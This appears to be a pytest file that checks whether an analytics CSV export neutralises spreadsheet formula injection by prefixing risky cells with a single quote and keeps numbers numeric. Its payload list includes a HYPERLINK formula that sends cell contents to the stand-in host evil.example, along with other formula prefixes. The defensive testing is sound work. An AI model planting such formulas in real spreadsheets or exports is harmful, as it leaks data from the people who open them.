"""CSV exports are safe to open in a spreadsheet: cells that a spreadsheet would run as a
formula are escaped (OWASP: a leading single quote), numbers stay numbers, and a carriage return
inside a cell cannot start a new row."""

from __future__ import annotations

import csv
import io

import httpx

from tests.support.flows import submit

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)",
            "\tstarts-with-tab", "\rstarts-with-cr"]  # fmt: skip


def test_csv_export_escapes_formula_cells_and_keeps_numbers_numeric(
    api: httpx.Client, uid: str
) -> None:
    for formula in FORMULAS:
        submit(api, f"cap-{uid}", task_type=formula, client_id=f"c-{uid}")
    r = api.get("/aitp/analytics/export", params={"report": "tasks", "period": "all"})
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    cells = {row["task_type"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            if cell.startswith("-"):  # only genuine negative numbers may start with a minus
                float(cell)
    raw = api.get(
        "/aitp/analytics/export",
        params={"report": "tasks_raw", "period": "last_24_hours", "format": "csv"},
    )
    assert raw.status_code == 200, raw.text
    raw_rows = csv.DictReader(io.StringIO(raw.text, newline=""))
    mine = [row for row in raw_rows if row["client_id"] == f"c-{uid}"]
    assert {row["task_type"] for row in mine} == {"'" + f for f in FORMULAS}
    assert all(row["priority"] == "5" for row in mine)  # numbers stay bare numbers
